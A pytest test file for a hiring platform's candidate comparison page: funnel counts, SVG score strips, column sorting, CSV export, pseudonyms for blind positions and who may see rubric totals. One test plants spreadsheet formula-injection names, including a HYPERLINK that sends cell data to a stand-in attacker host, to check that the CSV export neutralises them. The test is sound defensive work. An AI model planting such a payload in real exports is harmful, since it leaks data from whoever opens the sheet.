"""A position's comparison: the funnel, the score distributions as server-drawn
SVG, the table sortable by any column and its CSV, as staff may see them."""

from __future__ import annotations

import csv
import hashlib
import io
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from factories import make_invitation, make_org, make_position, make_run, make_submission, make_user
from fastapi.testclient import TestClient
from pages import sign_in, text
from sqlalchemy import event
from sqlmodel import Session
from worksample.db import (
    Blob,
    Decision,
    GradingRun,
    Invitation,
    Organisation,
    Outcome,
    Position,
    Review,
    ReviewStatus,
    Role,
    RunStatus,
    Submission,
    User,
    utcnow,
)
from worksample.graders import Report
from worksample.web import charts
from worksample.web.services.identity import pseudonym

REPORT = Path(__file__).parents[1] / "graders" / "reports" / "schema-1-off-by-one.json"
BASE = Report.model_validate_json(REPORT.read_bytes())
KEYS = ["candidate", "total", "category.correctness", "category.robustness", "rubric",
        "reviews", "decision"]  # fmt: skip


# --- the world --------------------------------------------------------------------


def graded(
    session: Session, invitation: Invitation, total: float, categories: dict[str, float]
) -> tuple[Submission, GradingRun]:
    """A final with a graded run whose report has these scores."""
    final = make_submission(session, invitation)
    described = {c.name: c for c in BASE.categories}
    report = BASE.model_copy(
        update={
            "score": total,
            "submission_sha256": final.sha256,
            "categories": [
                described[n].model_copy(update={"score": v}) for n, v in categories.items()
            ],
        }
    )
    data = report.model_dump_json().encode()
    blob = Blob(sha256=hashlib.sha256(data).hexdigest(), size=len(data),
                media_type="application/json", data=data)  # fmt: skip
    session.add(blob)
    session.commit()
    run = make_run(session, final, status=RunStatus.graded, score=total,
                   report_blob_id=blob.id, finished_at=utcnow())  # fmt: skip
    return final, run


def review(
    session: Session, final: Submission, reviewer: User, total: float | None, *, done: bool = True
) -> Review:
    row = Review(
        org_id=final.org_id, invitation_id=final.invitation_id, submission_id=final.id or 0,
        reviewer_id=reviewer.id or 0, assigned_by=reviewer.id or 0, rubric="{}",
        exercise_hash="x" * 64, total=total,
        status=ReviewStatus.submitted if done else ReviewStatus.assigned,
        submitted_at=utcnow() if done else None,
    )  # fmt: skip
    session.add(row)
    session.commit()
    session.refresh(row)
    return row


def decide(session: Session, invitation: Invitation, by: User, outcome: Outcome) -> None:
    session.add(Decision(org_id=invitation.org_id, invitation_id=invitation.id or 0,
                         outcome=outcome, reason="Because.", decided_by=by.id or 0))  # fmt: skip
    session.commit()


def org_of(session: Session, user: User) -> Organisation:
    org = session.get(Organisation, user.org_id)
    assert org is not None
    return org


def six_candidates(session: Session, admin: User) -> Position:
    """Ann to Fay with a final each, some values missing; Gus has no final.

    | name | total | correctness | robustness | rubric      | reviews | decision |
    | Ann  | 80    | 75          | 100        | 80 (70, 90) | 2       | advance  |
    | Bob  | 62.5  | 50          | 100        | 60          | 1       | reject   |
    | Cem  | 80    | 100         | 20         |             | 0       | hold     |
    | Dee  | queued|             |            | 50          | 1       |          |
    | Eve  | no run|             |            |             | 0       | reject   |
    | Fay  | 40    | 30          | (none)     | (a draft)   | 0       |          |
    """
    org = org_of(session, admin)
    position = make_position(session, org, title="Data Scientist")
    one, two = (
        make_user(session, org, role=Role.reviewer),
        make_user(session, org, role=Role.reviewer),
    )
    people = {n: make_invitation(session, position, candidate_name=n)[0]
              for n in ("Ann", "Bob", "Cem", "Dee", "Eve", "Fay", "Gus")}  # fmt: skip
    ann, _ = graded(session, people["Ann"], 80, {"correctness": 75, "robustness": 100})
    review(session, ann, one, 70)
    review(session, ann, two, 90)
    decide(session, people["Ann"], admin, Outcome.advance)
    bob, _ = graded(session, people["Bob"], 62.5, {"correctness": 50, "robustness": 100})
    review(session, bob, one, 60)
    decide(session, people["Bob"], admin, Outcome.hold)
    decide(session, people["Bob"], admin, Outcome.reject)  # the latest stands
    graded(session, people["Cem"], 80, {"correctness": 100, "robustness": 20})
    decide(session, people["Cem"], admin, Outcome.hold)
    dee = make_submission(session, people["Dee"])
    make_run(session, dee, status=RunStatus.queued)
    review(session, dee, one, 50)
    make_submission(session, people["Eve"])
    decide(session, people["Eve"], admin, Outcome.reject)
    fay, _ = graded(session, people["Fay"], 40, {"correctness": 30})
    review(session, fay, one, 99, done=False)  # a draft never counts
    return position


TBODY = re.compile(r"<tbody>(.*?)</tbody>", re.DOTALL)
NAME_CELL = re.compile(r'<td><a href="/invitations/\d+">([^<]+)</a></td>')


def table_names(page: str) -> list[str]:
    body = TBODY.search(page)
    assert body, page[:500]
    return NAME_CELL.findall(body.group(1))


def strip(page: str, measure: str) -> str:
    """The dot strip whose accessible summary starts with `measure`."""
    found = re.search(rf'<svg class="chart strip" role="img" aria-label="{measure}:.*?</svg>',
                      page, re.DOTALL)  # fmt: skip
    assert found, f"no strip for {measure}"
    return found.group(0)


def marks(svg: str) -> list[str]:
    return re.findall(r"<title>([^<]+)</title>", svg)


# --- the page ---------------------------------------------------------------------


def test_the_funnel_counts_each_stage(client: TestClient, db_session: Session, admin: User) -> None:
    position = six_candidates(db_session, admin)
    make_invitation(db_session, position, candidate_name="Hal", started=False)
    revoked, _ = make_invitation(db_session, position, candidate_name="Ivy", revoked=True)
    graded(db_session, revoked, 10, {"correctness": 10, "robustness": 10})
    sign_in(client, db_session, admin)
    page = text(client.get(f"/positions/{position.id}/compare"))
    funnel = re.search(r'<svg class="chart funnel" role="img" aria-label="Funnel: ([^"]+)"', page)
    assert funnel, page[:500]
    # Nine invited (Hal never started, Ivy revoked); seven finals (not Gus, Hal).
    assert funnel.group(1) == (
        "invited 9, started 8 (89%), submitted 7 (78%), graded 5 (56%), "
        "reviewed 3 (33%), decided 4 (44%)"
    )
    assert "(1 revoked)" in page
    assert re.findall(r'<text x="\d+" y="[\d.]+" text-anchor="end" fill="#1d2327">(\w+)</text>',
                      page) == ["invited", "started", "submitted", "graded", "reviewed",
                                "decided"]  # fmt: skip


def test_the_distributions_are_svg_drawn_on_the_server_with_each_candidate_marked(
    client: TestClient, db_session: Session, admin: User
) -> None:
    position = six_candidates(db_session, admin)
    sign_in(client, db_session, admin)
    response = client.get(f"/positions/{position.id}/compare")
    assert response.status_code == 200
    page = text(response)
    assert "<script" not in page.split('<main id="main">', 1)[1]  # no chart script
    total = strip(page, "Total score")
    assert 'aria-label="Total score: 4 candidates, median 71.2"' in total
    assert marks(total) == ["Fay: 40.0", "Bob: 62.5", "Ann: 80.0", "Cem: 80.0"]
    assert marks(strip(page, "Category correctness")) == [
        "Fay: 30.0", "Bob: 50.0", "Ann: 75.0", "Cem: 100.0"]  # fmt: skip
    assert marks(strip(page, "Category robustness")) == ["Cem: 20.0", "Ann: 100.0", "Bob: 100.0"]
    assert marks(strip(page, "Rubric total")) == ["Dee: 50.0", "Bob: 60.0", "Ann: 80.0"]
    # Each dot links to the candidate's file, coloured by the standing decision.
    ann = re.search(r'<a href="/invitations/(\d+)" class="mark"><title>Ann: 80.0</title>'
                    r'<circle [^>]*fill="([^"]+)"', total)  # fmt: skip
    assert ann and ann.group(2) == "#1d6b35"  # advance
    assert "style=" not in total  # the Content-Security-Policy forbids inline styles


def test_equal_scores_stack_and_two_hundred_stay_inside_the_strip() -> None:
    many = [charts.Mark(f"C{i}", 50.0, f"/invitations/{i}") for i in range(200)]
    svg = charts.dot_strip(many, label="Total score")
    heights = re.search(r'viewBox="0 0 960 ([\d.]+)"', svg)
    assert heights and float(heights.group(1)) < 300
    ys = [float(y) for y in re.findall(r'cy="([\d.]+)"', svg)]
    assert len(ys) == 200 and min(ys) > 0
    assert '<text class="count"' in svg and ">200</text>" in svg


@pytest.mark.parametrize(
    ("key", "order", "expected"),
    [
        ("candidate", "asc", "Ann Bob Cem Dee Eve Fay"),
        ("candidate", "desc", "Fay Eve Dee Cem Bob Ann"),
        ("total", "desc", "Ann Cem Bob Fay Dee Eve"),
        ("total", "asc", "Fay Bob Ann Cem Dee Eve"),
        ("category.correctness", "desc", "Cem Ann Bob Fay Dee Eve"),
        ("category.correctness", "asc", "Fay Bob Ann Cem Dee Eve"),
        ("category.robustness", "desc", "Ann Bob Cem Dee Eve Fay"),
        ("category.robustness", "asc", "Cem Ann Bob Dee Eve Fay"),
        ("rubric", "desc", "Ann Bob Dee Cem Eve Fay"),
        ("rubric", "asc", "Dee Bob Ann Cem Eve Fay"),
        ("reviews", "desc", "Ann Bob Dee Cem Eve Fay"),
        ("reviews", "asc", "Cem Eve Fay Bob Dee Ann"),
        ("decision", "asc", "Ann Cem Bob Eve Dee Fay"),  # advance, hold, reject
        ("decision", "desc", "Bob Eve Cem Ann Dee Fay"),
    ],
)
def test_the_table_sorts_by_any_column_missing_values_last(
    client: TestClient, db_session: Session, admin: User, key: str, order: str, expected: str
) -> None:
    """Ties in name order in either direction; a missing value last in both."""
    position = six_candidates(db_session, admin)
    sign_in(client, db_session, admin)
    url = f"/positions/{position.id}/compare"
    page = text(client.get(url, params={"sort": key, "order": order}))
    assert table_names(page) == expected.split()
    heading = re.search(r'<th scope="col" aria-sort="(\w+)"><a href="\?([^"]+)#table">', page)
    assert heading, "the sorted column says so"
    assert heading.group(1) == ("ascending" if order == "asc" else "descending")
    flipped = "desc" if order == "asc" else "asc"
    assert heading.group(2) == f"sort={key}&order={flipped}"
    in_csv = client.get(url + ".csv", params={"sort": key, "order": order})
    rows = list(csv.reader(io.StringIO(in_csv.content.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == expected.split()


def test_the_default_order_is_by_total_highest_first_and_text_columns_a_to_z(
    client: TestClient, db_session: Session, admin: User
) -> None:
    position = six_candidates(db_session, admin)
    sign_in(client, db_session, admin)
    url = f"/positions/{position.id}/compare"
    assert table_names(text(client.get(url))) == ["Ann", "Cem", "Bob", "Fay", "Dee", "Eve"]
    assert table_names(text(client.get(url, params={"sort": "candidate"})))[0] == "Ann"
    assert table_names(text(client.get(url, params={"sort": "rubric"})))[0] == "Ann"
    page = client.get(url).text
    headers = re.findall(r'<th scope="col"[^>]*><a href="\?([^"]+)#table">([^<]+)</a>', page)
    assert headers == [
        ("sort=candidate&amp;order=asc", "Candidate"),
        ("sort=total&amp;order=asc", "Total ▼"),  # the current one flips
        ("sort=category.correctness&amp;order=desc", "correctness"),
        ("sort=category.robustness&amp;order=desc", "robustness"),
        ("sort=rubric&amp;order=desc", "Rubric total"),
        ("sort=reviews&amp;order=desc", "Reviews"),
        ("sort=decision&amp;order=asc", "Decision"),
    ]


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"sort": "salary"}, "Unknown sort key 'salary': sort by one of " + ", ".join(KEYS) + "."),
        ({"sort": "category.style"}, "Unknown sort key 'category.style'"),
        ({"sort": "total", "order": "up"}, "Unknown order 'up': sort in asc or desc order."),
    ],
)
def test_an_unknown_sort_is_a_clear_400(
    client: TestClient, db_session: Session, admin: User, params: dict[str, str], message: str
) -> None:
    position = six_candidates(db_session, admin)
    sign_in(client, db_session, admin)
    for suffix in ("", ".csv"):
        response = client.get(f"/positions/{position.id}/compare{suffix}", params=params)
        assert response.status_code == 400
        assert message in text(response)


def test_a_position_with_nobody_says_so(
    client: TestClient, db_session: Session, admin: User
) -> None:
    position = make_position(db_session, org_of(db_session, admin))
    sign_in(client, db_session, admin)
    page = text(client.get(f"/positions/{position.id}/compare"))
    assert "Nobody invited yet." in page and "No final submission yet." in page
    csv_text = client.get(f"/positions/{position.id}/compare.csv").text
    assert csv_text == "\ufeffCandidate,Total,Rubric total,Reviews,Decision\r\n"


def test_another_organisations_position_is_not_found(
    client: TestClient, db_session: Session, admin: User
) -> None:
    theirs = six_candidates(db_session, make_user(db_session, make_org(db_session)))
    sign_in(client, db_session, admin)
    for suffix in ("", ".csv"):
        response = client.get(f"/positions/{theirs.id}/compare{suffix}")
        assert response.status_code == 404
        assert "Ann" not in response.text and "Data Scientist" not in response.text


# --- the CSV ----------------------------------------------------------------------


def test_the_csv_is_an_attachment_with_a_bom_and_numbers(
    client: TestClient, db_session: Session, admin: User
) -> None:
    position = six_candidates(db_session, admin)
    sign_in(client, db_session, admin)
    response = client.get(f"/positions/{position.id}/compare.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        f'attachment; filename="data-scientist-comparison-{position.id}.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [
        ["Candidate", "Total", "correctness", "robustness", "Rubric total", "Reviews", "Decision"],
        ["Ann", "80.0", "75.0", "100.0", "80.0", "2", "advance"],
        ["Cem", "80.0", "100.0", "20.0", "", "0", "hold"],
        ["Bob", "62.5", "50.0", "100.0", "60.0", "1", "reject"],
        ["Fay", "40.0", "30.0", "", "", "0", ""],
        ["Dee", "", "", "", "50.0", "1", ""],
        ["Eve", "", "", "", "", "0", "reject"],
    ]


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
    client: TestClient, db_session: Session, admin: User
) -> None:
    position = make_position(db_session, org_of(db_session, admin), title="Analyst")
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3", "@SUM(A1)",
             "\tTab", "Tomás Ferreira", "Plain = fine"]  # fmt: skip
    for name in names:
        invitation, _ = make_invitation(db_session, position, candidate_name=name)
        graded(db_session, invitation, 50, {"correctness": 50})
    sign_in(client, db_session, admin)
    response = client.get(f"/positions/{position.id}/compare.csv", params={"sort": "candidate"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    shown = [row[0] for row in rows[1:]]
    assert sorted(shown) == sorted(
        ["'" + n for n in names[:5]] + ["Tomás Ferreira", "Plain = fine"]
    )
    assert all(row[1] == "50.0" for row in rows[1:])  # numbers stay numbers
    # On the page the name is text, escaped, not a formula and not markup.
    page = client.get(f"/positions/{position.id}/compare").text
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1,&#34;Click&#34;)" in page


def test_a_blind_position_shows_pseudonyms_in_the_page_and_the_csv(
    client: TestClient, db_session: Session, admin: User
) -> None:
    position = make_position(db_session, org_of(db_session, admin), title="Blind", blind=True)
    zelda, _ = make_invitation(db_session, position, candidate_name="Zelda Quokka",
                               candidate_email="zelda@secret.example")  # fmt: skip
    graded(db_session, zelda, 70, {"correctness": 70, "robustness": 70})
    yann, _ = make_invitation(db_session, position, candidate_name="Yann Decided")
    graded(db_session, yann, 60, {"correctness": 60, "robustness": 60})
    decide(db_session, yann, admin, Outcome.reject)  # a decision lifts the blind
    reviewer = make_user(db_session, org_of(db_session, admin), role=Role.reviewer)
    for user in (reviewer, admin):
        sign_in(client, db_session, user)
        page = text(client.get(f"/positions/{position.id}/compare"))
        csv_text = client.get(f"/positions/{position.id}/compare.csv").text
        for shown in (page, csv_text):
            assert not re.search(r"zelda|quokka|secret\.example", shown, re.IGNORECASE)
            assert pseudonym(zelda) in shown and "Yann Decided" in shown
        assert f"{pseudonym(zelda)}: 70.0" in strip(page, "Total score")
        assert table_names(page) == [pseudonym(zelda), "Yann Decided"]


# --- who sees the rubric total ----------------------------------------------------


OPEN = "Your own review is still open: the others show once you submit it."
NOT_MINE = "Reviews show to their reviewers once submitted, and to admins and hiring managers."


def test_a_rubric_total_shows_only_to_who_may_read_the_reviews(
    client: TestClient, db_session: Session, admin: User
) -> None:
    """As on the candidate's file: not while one's own review is open, to a
    reviewer only once they have submitted one, to managers always."""
    org = org_of(db_session, admin)
    position = make_position(db_session, org)
    me, colleague = (
        make_user(db_session, org, role=Role.reviewer),
        make_user(db_session, org, role=Role.reviewer),
    )
    ann, bob, cem = (make_invitation(db_session, position, candidate_name=n)[0]
                     for n in ("Ann", "Bob", "Cem"))  # fmt: skip
    ann_final, _ = graded(db_session, ann, 50, {"correctness": 50})
    bob_final, _ = graded(db_session, bob, 55, {"correctness": 55})
    cem_final, _ = graded(db_session, cem, 45, {"correctness": 45})
    review(db_session, ann_final, colleague, 73)
    mine = review(db_session, ann_final, me, None, done=False)
    review(db_session, bob_final, colleague, 64)
    review(db_session, bob_final, me, 60)  # mine is in: the mean of both shows
    review(db_session, cem_final, colleague, 77)  # none of mine
    url = f"/positions/{position.id}/compare"

    sign_in(client, db_session, me)
    page = text(client.get(url))
    assert "73.0" not in page and "77.0" not in page
    assert f'<span class="muted" title="{OPEN}">hidden</span>' in page
    assert f'<span class="muted" title="{NOT_MINE}">hidden</span>' in page
    assert f"Rubric total hidden: {OPEN}" in page
    assert marks(strip(page, "Rubric total")) == ["Bob: 62.0"]
    rows = list(csv.reader(io.StringIO(client.get(url + ".csv").content.decode("utf-8-sig"))))
    assert [row[:5] for row in rows[1:]] == [
        ["Bob", "55.0", "55.0", "62.0", "2"],
        ["Ann", "50.0", "50.0", "", "1"],  # the count shows, as on the file
        ["Cem", "45.0", "45.0", "", "1"],
    ]
    by_rubric = text(client.get(url, params={"sort": "rubric", "order": "asc"}))
    assert table_names(by_rubric) == ["Bob", "Ann", "Cem"]  # hidden sorts as missing

    manager = TestClient(client.app, follow_redirects=False)
    sign_in(manager, db_session, admin)  # no review of their own: sees every total
    assert marks(strip(text(manager.get(url)), "Rubric total")) == [
        "Bob: 62.0", "Ann: 73.0", "Cem: 77.0"]  # fmt: skip

    mine.status, mine.total, mine.submitted_at = ReviewStatus.submitted, 91.0, utcnow()
    db_session.add(mine)
    db_session.commit()
    page = text(client.get(url))
    assert OPEN not in page
    assert marks(strip(page, "Rubric total")) == ["Bob: 62.0", "Ann: 82.0"]  # mean of 73, 91


# --- a bounded number of queries ----------------------------------------------------


@contextmanager
def counting(client: TestClient) -> Iterator[list[str]]:
    statements: list[str] = []
    engine = client.app.state.engine  # type: ignore[attr-defined]

    def count(*args: Any) -> None:
        statements.append(args[2])

    event.listen(engine, "before_cursor_execute", count)
    try:
        yield statements
    finally:
        event.remove(engine, "before_cursor_execute", count)


def crowd(session: Session, admin: User, reviewer: User, n: int, *, blind: bool) -> Position:
    position = make_position(session, org_of(session, admin), blind=blind)
    for i in range(n):
        invitation, _ = make_invitation(session, position, candidate_name=f"Person {i}")
        final, _ = graded(session, invitation, i % 100, {"correctness": 50, "robustness": i % 7})
        review(session, final, admin, 60 + i % 30)
        review(session, final, reviewer, None, done=False)
        if i % 3 == 0:
            decide(session, invitation, admin, Outcome.hold)
    make_invitation(session, position, started=False)  # and one who never began
    return position


@pytest.mark.parametrize("blind", [False, True], ids=["open", "blind"])
def test_the_queries_do_not_grow_with_the_candidates(
    client: TestClient, db_session: Session, admin: User, blind: bool
) -> None:
    reviewer = make_user(db_session, org_of(db_session, admin), role=Role.reviewer)
    few, many = (crowd(db_session, admin, reviewer, n, blind=blind) for n in (3, 30))
    sign_in(client, db_session, reviewer)
    counts = {}
    for position, n in ((few, 3), (many, 30)):
        for suffix in ("", ".csv"):
            with counting(client) as statements:  # the reports are not parsed yet
                response = client.get(f"/positions/{position.id}/compare{suffix}")
            assert response.status_code == 200
            counts[n, suffix] = len(statements)
    assert table_names(client.get(f"/positions/{many.id}/compare").text).__len__() == 30
    assert counts[3, ""] == counts[30, ""], counts
    assert counts[3, ".csv"] == counts[30, ".csv"], counts
    assert counts[30, ""] <= 12 + 2 * blind, counts  # the log-in's and the comparison's
